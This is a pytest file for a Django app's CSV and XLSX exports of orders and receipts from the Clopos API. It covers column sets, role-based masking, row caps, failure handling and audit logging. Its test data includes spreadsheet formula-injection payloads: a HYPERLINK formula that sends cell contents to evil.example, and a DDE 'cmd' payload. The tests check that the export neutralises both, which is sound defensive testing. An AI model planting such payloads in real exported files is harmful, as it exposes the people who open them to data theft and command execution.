"""Exports of the orders and receipts lists through the Django test client, Clopos mocked with
`responses`: the BOM, columns, formula neutralisation, masking per role, payment columns per
role, XLSX, bounds refused before any (or after exactly one) upstream call, a page that fails
mid-export, the budget wait, and the audit row."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import logging
from decimal import Decimal
from urllib.parse import parse_qsl, unquote, urlsplit
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import responses
import time_machine

from audit.models import AuditEntry
from clopos.errors import CloposRateLimitedError
from orders.export import BOM, neutralise
from tests.conftest import RAW_PHONE_4101, api_url, load_payload
from tests.pages import text_of

pytestmark = pytest.mark.django_db

BAKU = ZoneInfo("Asia/Baku")
NOW = dt.datetime(2026, 3, 14, 21, 30, tzinfo=BAKU)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(autouse=True)
def frozen_clock():
    with time_machine.travel(NOW, tick=False):
        yield


def download(response) -> bytes:
    assert response.status_code == 200, getattr(response, "content", b"")[:500]
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[list[str]]:
    raw = download(response)
    assert raw.startswith(BOM.encode("utf-8"))
    return list(csv.reader(io.StringIO(raw.decode("utf-8")[1:])))


def sent(mock_api, path: str) -> list[dict[str, str]]:
    return [
        {unquote(k): v for k, v in parse_qsl(urlsplit(call.request.url).query)}
        for call in mock_api.calls
        if urlsplit(call.request.url).path.endswith(f"/v2/{path}")
    ]


def receipts_body(total: int = 5, changes: dict[int, dict] | None = None) -> dict:
    body = copy.deepcopy(load_payload("receipts_list_page1.json"))
    body["total"] = total
    for receipt in body["data"]:
        receipt.update((changes or {}).get(receipt["id"], {}))
    return body


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+994503332211", "'+994503332211"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Əli", "Əli"),
        ("1-2", "1-2"),
        ("", ""),
    ],
)
def test_formula_neutralisation(value, expected):
    assert neutralise(value) == expected


# --- Orders ---------------------------------------------------------------------------------------


def test_the_orders_csv_has_a_bom_the_lists_columns_and_totals(api, client_for):
    rows = csv_rows(client_for("manager").get("/orders/export.csv", {"day": "2026-03-14"}))

    assert rows[0] == [
        "Order id",
        "Created (venue time)",
        "Venue",
        "Sale type",
        "Customer",
        "Phone",
        "Status",
        "Receipt",
        "Receipt id",
        "Receipt total",
        "Items",
        "Order total",
    ]
    assert [int(row[0]) for row in rows[1:]] == [4101, 4102, 4105, 4104, 4103]
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Customer"] == "Leyla Məmmədova"
    assert first["Phone"] == neutralise(RAW_PHONE_4101)  # a manager may reveal: in full
    assert first["Created (venue time)"].startswith("2026-03-14 ")


def test_support_gets_phones_masked(api, client_for):
    raw = download(client_for("support").get("/orders/export.csv", {"day": "2026-03-14"})).decode()

    assert "+994 50 *** ** 67" in raw
    assert "3214567" not in raw


def test_an_orders_export_is_audited_with_its_filters_and_row_count(api, client_for):
    download(client_for("manager").get("/orders/export.csv", {"day": "2026-03-14", "status": "PENDING"}))

    (entry,) = AuditEntry.objects.all()
    assert entry.action == AuditEntry.Action.EXPORT_ORDERS
    assert entry.detail == "format=csv day=2026-03-14&status=PENDING rows=1"


def test_the_orders_xlsx(api, client_for):
    response = client_for("support").get("/orders/export.xlsx", {"day": "2026-03-14"})

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="orders-2026-03-14.xlsx"' in response["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(download(response))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("Order id", "Created (venue time)", "Venue")
    assert [row[0] for row in rows[1:]] == [4101, 4102, 4105, 4104, 4103]
    assert isinstance(rows[1][1], dt.datetime)  # a real date, in venue time
    assert rows[1][5] == "'+994 50 *** ** 67"  # text starting with "+" is neutralised, masked or not
    assert AuditEntry.objects.get().detail == "format=xlsx day=2026-03-14 rows=5"


# --- Receipts -------------------------------------------------------------------------------------


def test_the_receipts_csv_has_the_issues_columns(api, client_for):
    rows = csv_rows(client_for("manager").get("/receipts/export.csv", {"day": "2026-03-14"}))

    assert rows[0] == [
        "Receipt id",
        "Daily id",
        "Shift date",
        "Opened (venue time)",
        "Closed (venue time)",
        "Venue",
        "Sale type",
        "Status",
        "Order status",
        "Customer",
        "Phone",
        "Guests",
        "Table",
        "Subtotal",
        "Discount",
        "Service charge",
        "Delivery fee",
        "Tax",
        "Total",
        "Cash",
        "Card",
        "Other payments",
        "Fiscal id",
        "Linked order",
    ]
    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert list(by_id) == ["20901", "20871", "20868", "20855"]  # shift 14 Mar only
    split = by_id["20855"]
    assert (split["Total"], split["Linked order"], split["Status"], split["Shift date"]) == (
        "38.20",
        "4103",
        "closed",
        "2026-03-14",
    )
    assert Decimal(split["Cash"]) + Decimal(split["Card"]) + Decimal(split["Other payments"]) == Decimal("38.20")
    assert by_id["20901"]["Linked order"] == "" and by_id["20901"]["Table"] == "9"


def test_receipt_customers_are_named_with_one_call_per_page(api, client_for):
    body = receipts_body(changes={20901: {"customer_id": 1000}, 20855: {"customer_id": 1005}})
    api.replace(responses.GET, api_url("receipts"), json=body)

    rows = csv_rows(client_for("manager").get("/receipts/export.csv", {"day": "2026-03-14"}))

    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert (by_id["20901"]["Customer"], by_id["20901"]["Phone"]) == ("Əli Məmmədov", "'+994503332211")
    assert (by_id["20855"]["Customer"], by_id["20855"]["Phone"]) == ("Анна Петрова", "(050) 333 22 11")
    (lookup,) = sent(api, "customers")
    # One call for every customer of the page (the fixture receipts have 118 and 377 too).
    assert [v for k, v in lookup.items() if k.startswith("filters[0][1]")] == ["118", "377", "1000", "1005"]
    assert lookup["filters[0][0]"] == "id"


def test_support_gets_no_payment_columns_and_masked_phones(api, client_for):
    body = receipts_body(changes={20901: {"customer_id": 1000}})
    api.replace(responses.GET, api_url("receipts"), json=body)

    rows = csv_rows(client_for("support").get("/receipts/export.csv", {"day": "2026-03-14"}))

    assert "Cash" not in rows[0] and "Card" not in rows[0] and "Other payments" not in rows[0]
    assert "Total" in rows[0] and "Fiscal id" in rows[0]
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Phone"] == "'+994 50 *** ** 11"


def test_formulas_are_neutralised_in_csv_and_xlsx(api, client_for):
    body = receipts_body(changes={20901: {"fiscal_id": HOSTILE, "order_status": "@SUM(1)", "customer_id": 1000}})
    api.replace(responses.GET, api_url("receipts"), json=body)
    customers = copy.deepcopy(load_payload("customers_list_page1.json"))
    customers["data"][1]["name"] = "-1+cmd|' /C calc'!A0"
    api.replace(responses.GET, api_url("customers"), json=customers)
    client = client_for("manager")

    rows = csv_rows(client.get("/receipts/export.csv", {"day": "2026-03-14"}))
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Fiscal id"] == "'" + HOSTILE
    assert first["Order status"] == "'@SUM(1)"
    assert first["Customer"] == "'-1+cmd|' /C calc'!A0"

    response = client.get("/receipts/export.xlsx", {"day": "2026-03-14"})
    sheet = openpyxl.load_workbook(io.BytesIO(download(response))).active
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    cells = {header[i]: cell for i, cell in enumerate(next(sheet.iter_rows(min_row=2, max_row=2)))}
    assert cells["Fiscal id"].value == "'" + HOSTILE and cells["Fiscal id"].data_type == "s"
    assert cells["Customer"].value.startswith("'-1+cmd")
    assert cells["Total"].data_type == "n"


def test_the_shift_is_kept_whatever_clopos_sends(api, client_for):
    rows = csv_rows(client_for("manager").get("/receipts/export.csv", {"day": "2026-03-13"}))
    assert [row[0] for row in rows[1:]] == ["20850"]


# --- Bounds ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "query", "message"),
    [
        ("/receipts/export.csv", {"from": "2026-01-01", "to": "2026-03-14"}, "A range can cover at most 31 days."),
        ("/orders/export.xlsx", {"from": "2026-02-01", "to": "2026-03-14"}, "A range can cover at most 31 days."),
        ("/receipts/export.xlsx", {"status": "paid"}, "Choose open or closed."),
        ("/orders/export.csv", {"venue": "7"}, "Venue 7 is not one of your venues."),
    ],
)
def test_an_export_out_of_bounds_is_refused_before_any_upstream_call(api, client_for, path, query, message):
    response = client_for("support").get(path, query)

    assert response.status_code == 400
    assert message in text_of(response.content)
    assert "Nothing was exported" in text_of(response.content)
    assert not api.calls
    assert not AuditEntry.objects.exists()


def test_more_rows_than_the_cap_is_refused_after_the_first_page(api, client_for, settings):
    settings.CLOPOS_EXPORT_MAX_ROWS = 4

    response = client_for("manager").get("/receipts/export.csv", {"day": "2026-03-14"})

    assert response.status_code == 400
    text = text_of(response.content)
    assert "This list has 5 rows in Clopos; an export holds at most 4." in text
    assert "Narrow the filters" in text
    assert len(sent(api, "receipts")) == 1
    assert sent(api, "receipts")[0]["limit"] == "200"
    assert not AuditEntry.objects.exists()


def test_a_page_that_fails_ends_the_file_with_an_error_row(api, client_for, caplog):
    api.replace(responses.GET, api_url("receipts"), json=receipts_body(total=450))
    api.add(responses.GET, api_url("receipts"), status=500, json={"success": False, "error": "internal_error"})

    with caplog.at_level(logging.WARNING, logger="orders.export"):
        rows = csv_rows(client_for("manager").get("/receipts/export.csv", {"day": "2026-03-14"}))

    assert [q["page"] for q in sent(api, "receipts")] == ["1", "2"]
    assert [row[0] for row in rows[1:-1]] == ["20901", "20871", "20868", "20855"]
    assert rows[-1][0] == "ERROR"
    assert "Clopos failed on page 2" in rows[-1][1] and "INCOMPLETE: 4 rows were written" in rows[-1][1]
    assert "export failed kind=receipts page=2 rows_written=4" in caplog.text
    entry = AuditEntry.objects.get()
    assert entry.action == AuditEntry.Action.EXPORT_RECEIPTS
    assert entry.detail == "format=csv day=2026-03-14 rows=4 FAILED page=2 (server_error)"


def test_an_xlsx_that_fails_says_so_in_its_name_and_last_row(api, client_for):
    api.replace(responses.GET, api_url("receipts"), json=receipts_body(total=450))
    api.add(responses.GET, api_url("receipts"), status=500, json={"success": False})

    response = client_for("manager").get("/receipts/export.xlsx", {"day": "2026-03-14"})

    assert 'filename="receipts-2026-03-14-INCOMPLETE.xlsx"' in response["Content-Disposition"]
    rows = list(openpyxl.load_workbook(io.BytesIO(download(response))).active.iter_rows(values_only=True))
    assert rows[-1][0] == "ERROR" and "INCOMPLETE" in rows[-1][1]


def test_a_spent_budget_makes_the_export_wait_then_go_on(api, client_for, monkeypatch):
    api.replace(responses.GET, api_url("receipts"), json=receipts_body(total=450))
    from clopos.client import CloposClient

    real = CloposClient.list_receipts
    refusals = iter([CloposRateLimitedError("spent", retry_after=3)])

    def list_receipts(self, query):
        if query.page == 2:
            error = next(refusals, None)
            if error is not None:
                raise error
        return real(self, query)

    slept: list[float] = []
    monkeypatch.setattr(CloposClient, "list_receipts", list_receipts)
    monkeypatch.setattr("orders.export.time.sleep", slept.append)

    rows = csv_rows(client_for("manager").get("/receipts/export.csv", {"day": "2026-03-14"}))

    assert slept == [3.0]
    assert rows[-1][0] != "ERROR"
    assert [q["page"] for q in sent(api, "receipts")] == ["1", "2", "3"]


def test_an_export_that_cannot_be_audited_is_not_started(api, client_for, monkeypatch):
    from audit.services import AuditWriteError

    def refuse(*args, **kwargs):
        raise AuditWriteError("export")

    monkeypatch.setattr("orders.views.export.audit_write_now", refuse)

    response = client_for("manager").get("/orders/export.csv", {"day": "2026-03-14"})

    assert response.status_code == 503
    assert "could not be recorded in the audit log" in text_of(response.content)


def test_scope_holds_in_every_file(api, client_for):
    """A support user of venue 1: Clopos is asked for venue 1 only, and the venue-3 rows the mock
    sends anyway never reach the file."""
    for path in ("/orders/export.csv", "/receipts/export.csv"):
        rows = csv_rows(client_for("support1").get(path, {"day": "2026-03-14"}))
        assert rows[1:] == []
    for query in sent(api, "orders") + sent(api, "receipts"):
        assert [v for k, v in query.items() if k.startswith("filters") and query.get(k[:-3] + "[0]") == "venue_id"]
